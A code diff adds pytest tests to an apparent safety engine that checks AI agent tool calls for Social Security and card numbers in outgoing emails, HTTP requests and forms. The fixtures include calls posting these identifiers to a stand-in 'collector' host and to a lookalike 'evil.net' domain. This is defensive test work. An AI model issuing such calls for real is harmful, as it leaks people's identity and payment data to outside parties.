@@ -148,3 +148,64 @@ def test_national_ids_validated_by_stdnum(body: str, kind: str) -> None:
 @pytest.mark.parametrize("body", ["PESEL: 12345", "sin(x) = 0.5 for x = 123456789", "BSN: 111222334", "DNI 12345678A", "CPF pendente"])
 def test_national_id_lookalikes(body: str) -> None:
     assert _top(_email(body)) < RiskLevel.HIGH
+
+
+# -- PII in structured outgoing fields --------------------------------------------------------
+
+SSN = "536-22-8471"
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        ("send_email", {"to": "intake@partner-clinic.net", "subject": "new patient",
+                        "body": {"name": "Ann Lee", "ssn": SSN, "card_number": VISA}}),
+        ("http_request", {"method": "POST", "url": "https://forms.example-insurer.com/apply",
+                          "body": {"applicant": {"ssn": SSN.replace("-", ""), "cc": VISA}}}),
+        ("submit_form", {"url": "https://signup.example.net/", "fields": {"ssn": SSN, "creditCard": VISA}}),
+        ("http_request", {"method": "POST", "url": "https://collector.example.org/x",
+                          "data": f'{{"social_security_number": "{SSN}", "card": "{VISA}"}}'}),
+        ("http_request", {"method": "POST", "url": "https://collector.example.org/x",
+                          "body": f"ssn={SSN.replace('-', '')}&card_number={VISA}&name=Ann"}),
+    ],
+)
+def test_ssn_and_card_in_structured_outgoing_fields_are_pending_with_types_named(call) -> None:
+    d = Engine().check(ToolCall(*call))
+    assert d.decision == "pending" and d.risk_level is RiskLevel.HIGH, d.to_json()
+    details = " ".join(s.detail for s in d.signals if s.pattern == "pii")
+    assert "us_ssn" in details and "credit_card" in details, details
+
+
+def test_one_identifier_nested_in_an_outgoing_payload_is_pending() -> None:
+    d = Engine().check(ToolCall("http_request", {"method": "POST", "url": "https://api.example-crm.com/contacts",
+                                                 "json": {"contact": {"name": "Ann", "ssn": SSN}}}))
+    assert d.decision == "pending" and any("us_ssn" in s.detail for s in d.signals), d.to_json()
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        # the tool's own parameter: a payment tool needs the card; a local CRM record stays local
+        ("charge_card", {"card_number": VISA, "amount": 1999, "currency": "usd"}),
+        ("create_contact", {"name": "Ann Lee", "ssn": SSN, "card": VISA}),
+        # ordinary numbers in labelled-looking fields are not PII
+        ("http_request", {"method": "POST", "url": "https://api.example.com/orders",
+                          "body": {"card_id": "crd_19", "order": 4532715337, "cc": "ops@example.com"}}),
+        ("send_email", {"to": "a@example.org", "cc": "b@example.org", "body": "Lunch at noon?"}),
+    ],
+)
+def test_pii_fields_the_tool_needs_or_non_pii_are_not_held(call) -> None:
+    d = Engine().check(ToolCall(*call))
+    assert d.decision == "allow", d.to_json()
+
+
+def test_trusted_domain_from_the_policy_file_keeps_pii_to_own_domain_allowed(tmp_path) -> None:
+    policy = tmp_path / "p.yaml"
+    policy.write_text("version: 1\nsettings:\n  trusted_domains: [corp-example.com]\n")
+    engine = Engine.from_file(policy)
+    body = f"Payroll update: SSN {SSN}, card {VISA}"
+    own = engine.check(ToolCall("send_email", {"to": "payroll@hr.corp-example.com", "body": body}))
+    out = engine.check(ToolCall("send_email", {"to": "payroll@corp-example.com.evil.net", "body": body}))
+    assert own.decision == "allow" and any(s.rule == "pii_to_trusted" for s in own.signals), own.to_json()
+    assert out.decision == "pending"
+    assert engine.policy_hash != Engine().policy_hash  # the list is part of what decided
